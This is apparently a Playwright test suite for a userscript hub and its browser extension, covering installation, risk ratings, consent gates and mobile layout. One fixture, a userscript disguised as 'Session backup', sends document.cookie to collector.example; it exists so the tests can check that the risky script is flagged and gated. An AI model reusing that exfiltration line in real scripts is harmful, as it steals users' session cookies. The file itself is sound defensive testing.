import { fileURLToPath } from "node:url";
import { expect, type Locator, type Page, test } from "@playwright/test";
import { openExtensionBrowser } from "../support/extension.ts";
import { startFixtureServer } from "../support/fixture-server.ts";
import { extensionFolder, hubOrigin, scriptLinks, signIn } from "../support/hub.ts";
import { ratedVersions, saveScriptAs } from "../support/save-script.ts";
import { storedRows } from "../support/stored-rows.ts";

/** End to end: hub, bridge, extension, userscript registry, a third-party page. */
test("a visitor installs a seeded userscript from the hub, and it runs on a page it matches", {
	tag: "@soak",
}, async () => {
	const fixtures = await startFixtureServer({ root: fileURLToPath(new URL("../fixtures/seeds/", import.meta.url)) });
	const browser = await openExtensionBrowser({ extension: extensionFolder() });
	try {
		await browser.allowUserScripts();
		const hub = await browser.context.newPage();
		await hub.goto(hubOrigin());
		await expect(hub.getByRole("link", { name: /extension connected/i })).toBeVisible();
		await scriptLinks(hub, "Featured Bookmarklets").filter({ hasText: "JSON Viewer" }).click();
		await expect(hub.getByRole("heading", { level: 1 })).toContainText("JSON Viewer");

		const countInstalls = async () => {
			const params = { title: "eq.JSON Viewer", select: "install_count" };
			const [row] = await storedRows<{ install_count: number }>(hub, "bookmarklets", params);
			return row?.install_count ?? 0;
		};
		const installsBefore = await countInstalls();
		const opened = browser.context.waitForEvent("page");
		await hub
			.getByRole("button", { name: /^install/i })
			.first()
			.click();
		const confirmation = await opened;
		await expect(confirmation.getByRole("heading", { name: "Install this script?" })).toBeVisible();
		// The extension's rating of the served file is the hub's rating of the stored code.
		const score = await hub
			.getByText(/^Score \d+ out of 100$/)
			.first()
			.textContent();
		await expect(confirmation.getByRole("region", { name: "Security rating" })).toContainText(`Low Risk${score}`);
		await expect(confirmation.getByRole("region", { name: "Runs on" })).toContainText("Every website you visit");
		await expect(hub.getByRole("region", { name: "What it may do" })).toContainText("Every website you visit");
		await expect(confirmation.getByRole("textbox", { name: /^Code of JSON Viewer/ })).toContainText("JSON");
		// Viewing the script is not counted as an install.
		expect(await countInstalls()).toBe(installsBefore);
		await confirmation.getByRole("button", { name: "Install", exact: true }).click();
		await expect(confirmation.getByRole("heading", { name: "JSON Viewer is installed" })).toBeVisible();

		const elsewhere = await browser.context.newPage();
		await elsewhere.goto(fixtures.url("json-viewer.json"));
		await expect(elsewhere.getByRole("main").getByRole("button", { name: "Expand all" })).toBeVisible();
		await expect(elsewhere.getByRole("main")).toContainText("id 12345678901234567890");
		await expect.poll(countInstalls).toBe(installsBefore + 1);

		// The hub follows what happens in the extension.
		await expect(hub.getByText(/^Installed, version \d+\.\d+\.\d+$/)).toBeVisible();
		await expect(hub.getByRole("button", { name: /^Install again: JSON Viewer/ })).toBeVisible();
		const manager = await browser.context.newPage();
		await manager.goto(browser.pageUrl("options.html"));
		await manager.getByRole("button", { name: "Remove JSON Viewer" }).click();
		await expect(hub.getByRole("button", { name: /^Install JSON Viewer/ })).toBeVisible();
		await expect(hub.getByText(/^Installed, version/)).toHaveCount(0);
		await manager.getByRole("button", { name: "Undo" }).click();
		await expect(hub.getByText(/^Installed, version/)).toBeVisible();
	} finally {
		await browser.close();
		await fixtures.stop();
	}
});

const DANGEROUS = `// ==UserScript==
// @name        Session backup
// @match       https://example.org/*
// @grant       none
// ==/UserScript==
fetch("https://collector.example/keep", { method: "POST", body: document.cookie });
`;

/** Both answers of the rating of `DANGEROUS`, as pages state them. */
async function expectAnswers(place: Page | Locator): Promise<void> {
	const access = place.getByRole("list", { name: "Access" }).first();
	await expect(access).toContainText("This site only: example.org");
	await expect(access).toContainText("Runs no code of others");
	await expect(access).toContainText("Reads cookies");
	await expect(access).toContainText("Contacts collector.example");
	await expect(place.getByText("Looks like an attack").first()).toBeVisible();
}

test("a High Risk script is found by searching only, states access and verdict from card to confirm page, and is installed only with consent, on hub and extension", async ({
	page,
}) => {
	const title = `Session backup ${Date.now().toString(36)}`;
	await signIn(page, "Arthur Author");
	const { id } = await saveScriptAs(page, { title, code: DANGEROUS });
	expect(Object.values(await ratedVersions(page, id))).toEqual(["red"]);
	const fileUrl = new RegExp(`/scripts/${id}/[^/]+\\.user\\.js$`);

	const browser = await openExtensionBrowser({ extension: extensionFolder() });
	try {
		const hub = await browser.context.newPage();
		await hub.goto(hubOrigin());
		await expect(scriptLinks(hub, "Recently Added")).toHaveCount(8);
		await expect(hub.getByText(title)).toHaveCount(0);
		expect(await (await hub.request.get(`${hubOrigin()}/feeds/latest.json`)).text()).not.toContain(title);

		const search = hub.getByRole("banner").getByRole("combobox", { name: "Search bookmarklets" });
		await search.fill(title);
		await search.press("Enter");
		const result = hub.getByRole("list", { name: "Scripts" }).getByRole("listitem").filter({ hasText: title });
		await expect(result.getByText("High Risk")).toBeVisible();
		await expect(result.getByText("Looks like an attack")).toBeVisible();
		for (const fact of ["Runs on example.org", "Reads cookies", "Contacts collector.example"]) {
			await expect(result.getByRole("list", { name: "What it is and may do" })).toContainText(fact);
		}
		await result.getByRole("link", { name: title }).first().click();

		const panel = hub.getByRole("region", { name: "Instructions" });
		await expect(panel.getByRole("region", { name: "This version can harm you" })).toBeVisible();
		await expectAnswers(panel);
		const analysis = hub.getByRole("region", { name: "Security Analysis" });
		await expectAnswers(analysis);
		// The path of the data, quoted.
		await expect(analysis.getByText("Data flow")).toBeVisible();
		await expect(analysis).toContainText("document.cookie");
		const consent = panel.getByRole("checkbox", { name: /install it anyway: .*collector\.example/ });
		const install = panel.getByRole("button", { name: /^Install / });
		const files = hub.locator("a[href$='.user.js'], a[data-drag-link]");
		await expect(install).toBeDisabled();
		await expect(panel.getByRole("button", { name: /^Copy link/ })).toBeDisabled();
		await expect(files).toHaveCount(0);
		await consent.check();
		// Install itself is one of them, for those who press it before the page's code is there.
		await expect(files).toHaveCount(4);
		await expect(panel.getByRole("link", { name: "Installable file" })).toHaveAttribute("href", fileUrl);

		const opened = browser.context.waitForEvent("page");
		await install.click();
		const confirmation = await opened;
		await expect(confirmation.getByRole("region", { name: "Security rating" })).toContainText("High Risk");
		const findings = confirmation.getByRole("list", { name: "Most serious findings" });
		await expect(findings).toContainText("collector.example");
		await expectAnswers(confirmation);
		await expect(findings.getByRole("list", { name: "The path of the data" })).toContainText("document.cookie");
		const confirm = confirmation.getByRole("button", { name: "Install", exact: true });
		await expect(confirm).toBeDisabled();
		await confirmation.getByRole("checkbox", { name: /install it anyway: .*collector\.example/ }).check();
		await confirm.click();
		await expect(confirmation.getByRole("heading", { name: "Session backup is installed" })).toBeVisible();
	} finally {
		await browser.close();
	}

	// Without the extension the dialog asks the same.
	await page.goto(`${hubOrigin()}/bookmarklet/${id}`);
	await page.getByRole("checkbox", { name: /install it anyway/ }).check();
	await page.getByRole("button", { name: /^Install / }).click();
	const dialog = page.getByRole("dialog", { name: "Install a userscript" });
	await expect(dialog.getByRole("list", { name: "Most serious findings" })).toContainText("collector.example");
	await expectAnswers(dialog);
	await expect(dialog.getByRole("list", { name: "The path of the data" })).toContainText("document.cookie");
	await dialog.getByRole("checkbox", { name: /install it anyway/ }).uncheck();
	await expect(dialog.getByRole("link", { name: "Open the installable file" })).toHaveCount(0);
	await expect(dialog.getByRole("link", { name: "Get the extension" })).toBeVisible();
});

test.describe("on a phone", () => {
	test.use({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });

	test("installing comes right after the script's words, in steps for a finger", { tag: "@soak" }, async ({ page }) => {
		await page.goto(hubOrigin());
		await scriptLinks(page, "Featured Bookmarklets").filter({ hasText: "Table to CSV" }).click();
		const panel = page.getByRole("region", { name: "Instructions" });
		const way = panel.getByRole("region", { name: "Add to bookmarks" });
		await expect(way.getByRole("button", { name: /^Copy the address/ })).toHaveText("Copy the address");
		await expect(way.getByRole("region", { name: "Chrome on Android" }).getByRole("listitem")).toHaveCount(4);
		await expect(panel).not.toContainText(/\bdrag|Ctrl|right-click|hold with the mouse/i, { useInnerText: true });
		await expect(panel.locator("[data-drag-link]")).toBeHidden();
		await expect(way.getByText(/Content-Security-Policy/)).toBeHidden();
		const before = page.getByRole("region", { name: "Security Analysis" });
		const [install, analysis] = await Promise.all([panel.boundingBox(), before.boundingBox()]);
		expect(install?.y).toBeLessThan(analysis?.y ?? 0);
	});
});
